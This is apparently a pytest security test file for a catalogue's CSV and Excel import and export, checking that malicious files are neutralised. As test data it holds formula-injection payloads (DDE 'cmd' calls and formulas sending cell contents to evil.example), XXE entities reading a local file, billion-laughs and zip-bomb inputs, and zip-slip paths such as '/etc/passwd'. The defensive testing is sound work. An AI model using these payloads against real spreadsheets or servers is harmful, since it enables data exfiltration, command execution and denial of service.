"""Files made to do harm: to the server that reads them, or to whoever opens what it wrote."""

import csv
import resource
import time
import zipfile
from collections.abc import Iterator
from io import BytesIO, StringIO
from itertools import product
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as some
from openpyxl import Workbook, load_workbook

from tests.world import texts
from widgets.catalogue.cells import guarded, unguarded
from widgets.catalogue.records import Entry, Membership, Network, Organisation
from widgets.errors import CatalogueRefused
from widgets.files import formats

COMPUTED = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "'=1+1",
    "''=1+1",
    "＝1+1",
)
HIDDEN = ("{}", "x;{}", "x,{}", 'x;"{}"', 'x,"{}"', "x;{};y", "x;'{}")
SECRET = "the contents of a file of the server"  # noqa: S105


def begins(text: str) -> Iterator[str]:
    """What whoever reads a table takes for the beginning of a cell, whatever separates them."""
    for separator in ",;\t":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            read = csv.reader(StringIO(text, newline=""), delimiter=separator, quoting=quoting)
            for row in read:
                yield from (cell.lstrip('"') for cell in row)


def entries(formula: str) -> list[Entry]:
    named = texts(en=formula)
    made = (
        Network(slug="a", name=named, summary=named, city=named, aliases=(formula,)),
        Organisation(slug="o", name=named),
        Membership(network="a", member="o", role="member", note=named),
    )
    return sorted(made, key=str)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_that_is_exported_is_computed_however_the_table_is_split(formula: str) -> None:
    for hidden, separator in product(HIDDEN, ",;\t"):
        held = entries(hidden.format(formula))
        content = formats.written("a.csv", held, frozenset(), separator)
        for cell in begins(content.decode("utf-8-sig")):
            assert not cell.startswith(COMPUTED), (hidden, cell)
        assert sorted(formats.parsed("a.csv", content).entries, key=str) == held


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_workbook_is_a_formula(formula: str) -> None:
    held = entries(formula)
    content = formats.written("a.xlsx", held, frozenset())
    for sheet in load_workbook(BytesIO(content)):
        for row in sheet.iter_rows():
            assert {cell.data_type for cell in row} <= {"s", "n"}
            assert not [each for each in row if each.data_type == "n" and each.value is not None]
    assert sorted(formats.parsed("a.xlsx", content).entries, key=str) == held


@given(some.text(some.sampled_from("'\"=+-@,;\t\n \\x1") | some.characters(codec="utf-8")))
@example("x;'=1")
@example(",=1,'=1,''=1")
@example("'\t=1")
@example("€ 10,- per year; +31 20")
def test_what_was_guarded_comes_back_to_the_letter(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not guarded(text).startswith(COMPUTED)


@pytest.mark.parametrize("text", ["€ 10,- per year", "a, -b", "x; +31 20", "tel.,+", "a;-,b"])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


PART = "xl/worksheets/sheet1.xml"
SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
ROWS = "<sheetData><row r='1'><c r='A1' t='inlineStr'><is><t>{}</t></is></c></row></sheetData>"
LOL = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))


def workbook(part: str, content: str | bytes) -> bytes:
    """A workbook, one of whose parts is another."""
    plain, file = BytesIO(), BytesIO()
    book = Workbook()
    book.active.append(["slug", "name"])
    book.save(plain)
    with (
        zipfile.ZipFile(plain) as source,
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as out,
    ):
        for each in source.namelist():
            out.writestr(each, content if each == part else source.read(each))
    return file.getvalue()


PARTS = (
    *(
        PART,
        "xl/workbook.xml",
        "xl/styles.xml",
        "[Content_Types].xml",
        "xl/_rels/workbook.xml.rels",
    ),
    *("xl/sharedStrings.xml", "docProps/core.xml", "_rels/.rels"),
)


@pytest.mark.parametrize("part", PARTS)
@pytest.mark.parametrize("attack", ["inside", "outside", "web", "deep", "billion", "quadratic"])
def test_no_entity_of_a_workbook_is_read_or_fetched(tmp_path: Path, part: str, attack: str) -> None:
    secret = tmp_path / "secret"
    secret.write_text(SECRET)
    declared, used = {
        "inside": (f'<!ENTITY e "{SECRET}">', "&e;"),
        "outside": (f'<!ENTITY e SYSTEM "{secret.as_uri()}">', "&e;"),
        "web": ('<!ENTITY e SYSTEM "http://127.0.0.1:9/">', "&e;"),
        "deep": (f'<!ENTITY % e SYSTEM "{secret.as_uri()}"> %e;', "x"),
        "billion": (f'<!ENTITY l0 "lol">{LOL}', "&l11;"),
        "quadratic": (f'<!ENTITY e "{"x" * 50_000}">', "&e;" * 5_000),
    }[attack]
    xml = f"<!DOCTYPE x [{declared}]><worksheet {SHEET}>{ROWS.format(used)}</worksheet>"
    began = time.process_time()
    try:
        found = str(formats.parsed("a.xlsx", workbook(part, xml), type="topic"))
    except CatalogueRefused as error:
        found = str(error)
    assert SECRET not in found
    assert "lollol" not in found
    assert time.process_time() - began < 20  # a bound, not a measure: a bomb takes for ever


def test_a_small_workbook_that_unpacks_to_a_huge_one_is_refused_before_it_is() -> None:
    bomb = workbook(PART, b" " * (300 << 20))
    assert len(bomb) < 1 << 20
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(CatalogueRefused, match="too large once it is unpacked"):
        formats.parsed("a.xlsx", bomb)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000  # kB


def test_a_workbook_that_lies_about_its_size_is_read_no_further_than_it_says() -> None:
    honest = workbook(PART, b"<x>" + b" " * (30 << 20) + b"</x>")
    size = (30 << 20) + 7
    lying = honest.replace(size.to_bytes(4, "little"), (100).to_bytes(4, "little"))
    assert lying != honest
    with pytest.raises(CatalogueRefused, match="no workbook that can be read"):
        formats.parsed("a.xlsx", lying)


@pytest.mark.parametrize("name", ["../../x.xml", "/etc/passwd", "xl\\..\\..\\x", "a" * 5000])
def test_a_workbook_never_writes_a_file_whatever_its_parts_are_called(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.chdir(tmp_path)
    file = BytesIO(workbook("none", b""))
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(name, SECRET)
    formats.parsed("a.xlsx", file.getvalue(), type="topic")
    assert list(tmp_path.rglob("*")) == []
